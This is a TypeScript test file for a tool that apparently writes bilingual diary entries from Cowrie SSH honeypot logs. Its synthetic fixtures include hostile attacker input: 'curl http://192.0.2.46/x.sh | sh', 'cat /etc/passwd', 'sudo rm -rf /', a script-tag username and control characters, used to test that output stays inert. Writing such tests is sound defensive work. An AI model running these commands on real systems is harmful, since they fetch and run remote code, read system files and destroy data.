// The diary against its truth: the operator's published log gives, in both languages, what the operator wrote by hand.
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { configSchema } from '../config/config.ts';
import { importPaths } from '../observatory/import.ts';
import { openStore } from '../observatory/open.ts';
import type { Claim } from './claim.ts';
import { DAY } from './day.ts';
import { type DiaryOptions, writeDiary } from './diary.ts';

const fixtures = join(import.meta.dirname, 'fixtures');
const scratch = mkdtempSync(join(tmpdir(), 'kansatsuki-diary-'));
after(() => rmSync(scratch, { recursive: true }));

const config = configSchema.parse({});
const now = Date.UTC(2027, 0, 1);
const WEEK = { from: Date.UTC(2018, 4, 2), to: Date.UTC(2018, 4, 9) };

async function storeOf(...paths: string[]) {
  const store = openStore(':memory:');
  await importPaths(store, paths, { now: () => now });
  return store;
}

const write = (store: Awaited<ReturnType<typeof storeOf>>, more: Partial<DiaryOptions>) =>
  writeDiary(store, { lang: 'en', format: 'md', config, now, ...more });

const brief = await storeOf(join(fixtures, 'observation-log.md'));

// A made-up log over real forms: what an entry must and must not say.

let serial = 0;
const lines: string[] = [];
function session(at: number, address: string, events: [seconds: number, fields: Record<string, unknown>][]): void {
  const id = (++serial).toString(16).padStart(12, '0');
  const line = (seconds: number, fields: Record<string, unknown>) =>
    lines.push(
      JSON.stringify({
        sensor: 'tokyo-trap-7',
        session: id,
        src_ip: address,
        timestamp: new Date(at + seconds * 1000).toISOString().replace('Z', '000Z'),
        ...fields,
      }),
    );
  line(0, {
    eventid: 'cowrie.session.connect',
    src_port: 1,
    dst_ip: '203.0.113.9',
    dst_port: 22,
    protocol: 'ssh',
    message: `New connection: ${address}:1`,
  });
  for (const [seconds, fields] of events) line(seconds, fields);
  line(60, { eventid: 'cowrie.session.closed', duration: 60, message: 'Connection lost after 60 seconds' });
}
const failed = (username: string, password: string) => ({
  eventid: 'cowrie.login.failed',
  username,
  password,
  message: `login attempt [${username}/${password}] failed`,
});
const succeeded = (username: string, password: string) => ({
  ...failed(username, password),
  eventid: 'cowrie.login.success',
});
const typed = (input: string) => ({ eventid: 'cowrie.command.input', input, message: `CMD: ${input}` });

const START = Date.UTC(2026, 4, 1);
for (let day = 0; day < 10; day++)
  for (let hour = 0; hour < 24; hour++) {
    // On the eighth day the sensor is away from 10 to 16 h.
    if (day === 7 && hour >= 10 && hour < 16) continue;
    for (let i = 0; i < 6; i++)
      session(START + day * DAY + hour * 3_600_000 + i * 500_000, `198.51.100.${(hour * 6 + i) % 200}`, [
        [1, failed('root', '123456')],
      ]);
  }
// The tenth day: one source in bursts, a new name, markup and controls, a person, hosts and addresses in hostile text.
const TENTH = START + 9 * DAY;
session(
  TENTH + 1_000,
  '192.0.2.44',
  Array.from({ length: 30 }, (_, i) => [i * 2, failed('admin', `word${i}`)] as [number, ReturnType<typeof failed>]),
);
session(TENTH + 2_000, '192.0.2.45', [
  [1, failed('<script>alert(1)</script>', 'a`b```c | d')],
  [2, failed('\u202eevil\u001b[2J', 'x')],
]);
session(TENTH + 3_000, '192.0.2.46', [
  [1, succeeded('root', 'letmein')],
  [5, typed('curl http://192.0.2.46/x.sh | sh; ping 203.0.113.9; ssh tokyo-trap-7')],
]);
session(TENTH + 4_000, '192.0.2.47', [
  [0, { eventid: 'cowrie.client.version', version: 'SSH-2.0-OpenSSH_9.2p1 Debian-2', message: 'Remote SSH version' }],
  [1, succeeded('root', 'toor')],
  [1, { eventid: 'cowrie.client.size', width: 132, height: 43, message: 'Terminal Size: 132 43' }],
  ...['ls', 'cd ..', 'cat /etc/passwd', 'pwd', 'w', 'sudo rm -rf /'].map(
    (input, i): [number, Record<string, unknown>] => [2 + [0, 3, 11, 14, 31, 38][i]!, typed(input)],
  ),
]);
const log = join(scratch, 'cowrie.json');
writeFileSync(log, `${lines.join('\n')}\n`);
const made = await storeOf(log);

const claimed = <Kind extends Claim['kind']>(claims: Claim[], kind: Kind) =>
  claims.filter((claim): claim is Extract<Claim, { kind: Kind }> => claim.kind === kind);

const changes = (claims: Claim[]) => claims.filter(({ kind }) => kind === 'rise' || kind === 'fall');

test('the week of the published log: claims bear what the operator wrote', () => {
  const { claims } = write(brief, { range: WEEK });
  const raspberry = claimed(claims, 'target').find(({ subject }) => subject.rule.id === 'raspberry-pi')!;
  assert.equal(raspberry.isNew, true);
  assert.equal(raspberry.numbers.attempts, 2);
  assert.deepEqual(raspberry.clients, ['SSH-2.0-OpenSSH_6.7p1 Raspbian-5+deb8u4']);
  assert.equal(raspberry.evidence.length, 2);
  const [burst] = claimed(claims, 'burst');
  assert.equal(burst!.subject.username, 'RPM');
  assert.equal(burst!.numbers.attempts, 15);
  assert.ok(burst!.numbers.medianMs > 1_000 && burst!.numbers.medianMs < 1_150, String(burst!.numbers.medianMs));
  assert.deepEqual(
    burst!.telling.map(({ password }) => password),
    ['ubnt', 'PlcmSpIp'],
  );
  const [trend] = claimed(claims, 'trend');
  assert.deepEqual([trend!.subject.direction, trend!.numbers.early, trend!.numbers.late], ['rise', 5, 15]);
  assert.deepEqual(trend!.carriedBy, { username: 'RPM', count: 15 });
  assert.ok(claims.every(({ reason, score }) => reason.length > 10 && Number.isFinite(score)));
});

test('the week in words, English and Japanese', () => {
  const english = write(brief, { range: WEEK }).text;
  for (const said of [
    /Attacks aimed at Raspberry Pi have begun, with the password of the Raspberry Pi worm of 2017/,
    /`pi\/raspberryraspberry993311` \(the password that Linux\.MulDrop\.14/,
    /`django`, `support` and `test9`/,
    /Brute force is rising/,
    /about one try a second/,
    /vendor defaults.*`ubnt` \(Ubiquiti devices\) and `PlcmSpIp` \(Polycom phones\)/,
    /Not enough data: nothing earlier is on record/,
    /"username": "RPM", "timestamp": "2018-05-08T13:26:23\.553110Z", "message": "login attempt \[RPM\/PlcmSpIp\] failed"/,
  ])
    assert.match(english, said);
  const japanese = write(brief, { range: WEEK, lang: 'ja' }).text;
  for (const said of [
    /Raspberry Piを標的にした攻撃が来はじめた。/,
    /総当りも増えてきた。/,
    /1秒におよそ1回/,
    /最初に来たのは`django`、`support`、`test9`でのログイン試行だった。/,
    /2018-05-03 \[SSHService 'ssh-userauth' on HoneyPotSSHTransport,○○○,○○○\.○○○\.○\.○○○\] login attempt \[pi\/raspberry\] failed/,
  ])
    assert.match(japanese, said);
  const polite = write(brief, {
    range: WEEK,
    lang: 'ja',
    config: configSchema.parse({ diary: { style: 'desumasu' } }),
  }).text;
  assert.match(polite, /Raspberry Piを標的にした攻撃が来はじめました。/);
  assert.match(polite, /総当りも増えてきました。/);
  // Every sentence of ours ends in the chosen style.
  const prose = polite
    .split('\n')
    .filter((line) => /^[^#|`"\d]/.test(line))
    .join('');
  assert.ok(!/(である|ない|いる|ある|れる|(?<!まし|でし)た)。/.test(prose.replace(/\([^()]*\)/g, '')), prose);
});

test('a time that was only guessed is not quoted', () => {
  assert.ok(!write(brief, { range: WEEK }).text.includes('2018-05-03T'));
});

test('same store, same text: golden entries of the week and of each day', () => {
  for (const lang of ['en', 'ja'] as const)
    for (const [name, when] of [
      ['week', { range: WEEK }],
      ['2018-05-02', { date: '2018-05-02' }],
      ['2018-05-03', { date: '2018-05-03' }],
      ['2018-05-04', { date: '2018-05-04' }],
      ['2018-05-08', { date: '2018-05-08' }],
    ] as const) {
      const { text } = write(brief, { ...when, lang });
      assert.equal(write(brief, { ...when, lang }).text, text);
      golden(`${name}.${lang}.md`, text);
    }
});

/** Compares with the kept text; KANSATSUKI_GOLDEN=1 keeps the new one. */
function golden(name: string, text: string): void {
  const file = join(fixtures, name);
  if (process.env['KANSATSUKI_GOLDEN'] || !existsSync(file)) writeFileSync(file, text);
  assert.equal(text, readFileSync(file, 'utf8'), `${name} differs; KANSATSUKI_GOLDEN=1 keeps the new text`);
}

test('hostile text stays inert and nothing of ours leaks, in every format and language', () => {
  for (const lang of ['en', 'ja'] as const)
    for (const format of ['md', 'html', 'json'] as const)
      for (const mask of ['circles', 'network', 'alias'] as const) {
        const { text } = write(made, {
          date: '2026-05-10',
          lang,
          format,
          config: { diary: { mask, style: 'dearu' } },
          masking: { key: 'k' },
        });
        assert.ok(
          !/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/.test(text),
          `${lang} ${format}: a control character`,
        );
        assert.ok(
          !/192\.0\.2\.4[4-7]|203\.0\.113\.9|tokyo-trap/.test(text),
          `${lang} ${format} ${mask}: an address or a name`,
        );
        if (format === 'html') assert.ok(!/<script/.test(text));
      }
});

test('a steady rate gives no claim of change, a day ten times as busy does', () => {
  assert.deepEqual(changes(write(made, { date: '2026-05-05' }).claims), []);
  assert.match(write(made, { date: '2026-05-05' }).text, /Nothing beyond the usual ups and downs/);
  assert.match(write(made, { date: '2026-05-05' }).text, /nothing stands out/);
});

test('an outage is told as a gap, and is no fall in attacks', () => {
  const { text, claims } = write(made, { date: '2026-05-08' });
  const [gap] = claimed(claims, 'gap');
  assert.deepEqual([gap!.numbers.hours, gap!.numbers.expected], [6, 36]);
  assert.match(text, /Silent from 10:00 to 16:00: about 36 sessions were to be expected/);
  assert.deepEqual(changes(claims), []);
  assert.match(text, /18 and 24 hours/);
});

test('the tenth day: a series of guesses, new names, a person at the keyboard', () => {
  const { claims, text } = write(made, { date: '2026-05-10' });
  const [burst] = claimed(claims, 'burst');
  assert.deepEqual(
    [burst!.subject.username, burst!.subject.address, burst!.numbers.attempts],
    ['admin', '192.0.2.44', 30],
  );
  const names = claimed(claims, 'first seen').filter(({ subject }) => subject.dimension === 'username');
  assert.deepEqual(names.map(({ subject }) => subject.value).sort(), [
    '<script>alert(1)</script>',
    'admin',
    '\u202eevil\u001b[2J',
  ]);
  const person = claimed(claims, 'curiosity').find(({ subject }) => subject.what === 'by hand');
  assert.equal(person?.numbers['commands'], 6);
  assert.match(
    text,
    /One session looks typed by a person, not by a program: 6 lines in 38 seconds, with .*a window of 132 by 43/,
  );
  assert.match(text, /The curiosity:\n\n```\n.*CMD: ls/);
  assert.match(text, /One login succeeded|2 logins succeeded/);
});

test('what was typed is told by its techniques, too, in both languages', () => {
  assert.match(write(made, { date: '2026-05-10' }).text, /^\| T1105 Ingress Tool Transfer \| 1 \| 0 \|$/m);
  assert.match(write(made, { date: '2026-05-10', lang: 'ja' }).text, /^\| T1105 侵入先へのツールの転送 \| 1 \| 0 \|$/m);
  assert.doesNotMatch(write(made, { date: '2026-05-05' }).text, /ATT&CK/);
});

test('a day without events, and one that is not over, say so', () => {
  assert.match(write(made, { date: '2026-06-01' }).text, /^Nothing was recorded\.$/m);
  assert.match(write(made, { date: '2026-06-01', lang: 'ja' }).text, /この日の記録はない。/);
  assert.match(write(made, { date: '2026-05-10', now: TENTH + 3_600_000 }).text, /^So far: /m);
});

test('a date that is none is refused', () => {
  for (const date of ['2026-02-30', 'yesterday', '2026-1-1', ''])
    assert.throws(() => write(made, { date }), RangeError);
});
